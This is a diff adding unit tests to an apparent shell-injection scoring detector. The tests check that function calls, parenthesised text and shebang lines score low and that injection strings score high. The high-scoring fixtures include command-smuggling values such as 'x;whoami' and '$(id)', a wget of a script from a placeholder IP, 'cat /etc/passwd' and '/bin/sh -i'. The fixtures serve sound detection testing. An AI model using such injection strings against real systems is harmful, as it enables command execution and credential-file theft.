@@ -214,6 +214,35 @@ describe("shell family", () => {
     }
   })
 
+  it("reads a command name glued to `(` as a function call, which a shell never runs", () => {
+    for (const value of ["expand('file-{a,b,c}.jpg')", "const parts = split(line, ',')", "whoami()"]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+    // a space before the parenthesis, or a command after the call, still counts
+    for (const value of ["expand ('x') ; id", "x;whoami", "foo();wget http://203.0.113.9/a.sh"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+  })
+
+  it("reads no command right after a closing parenthesis, where a shell allows only a separator", () => {
+    for (const value of ["Report it to the Security Response Center (MSRC) at [https://msrc.example/report]", "call us (24/7) at 555-0100", "a) id"]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+    for (const value of ["a);id", "a)|id", "(id)", "$(id)", "x (y); wget http://203.0.113.9/a.sh"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+  })
+
+  it("reads a word that starts with `#!` or `# ` as a comment to the end of the line, as a shell does", () => {
+    for (const value of ["#!/usr/bin/env node\nconsole.log('hi')", "#!/usr/bin/env python3\nprint('hi')", "const line = '#!/usr/bin/env node'"]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+    // the command before the comment runs, and so does the next line
+    for (const value of ["|id # look", "x\n# setup\ncat /etc/passwd", "#!/bin/sh\n/bin/sh -i"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+  })
+
   it("reads a loop's increment as code, not as the g++ compiler", () => {
     // `g++` ends a `for` header in minified JavaScript; the compiler is only run with source files
     expect(score("for(var g=0;g<n.length;g++){c[g]=n[g]|0}")).toBeLessThan(5)
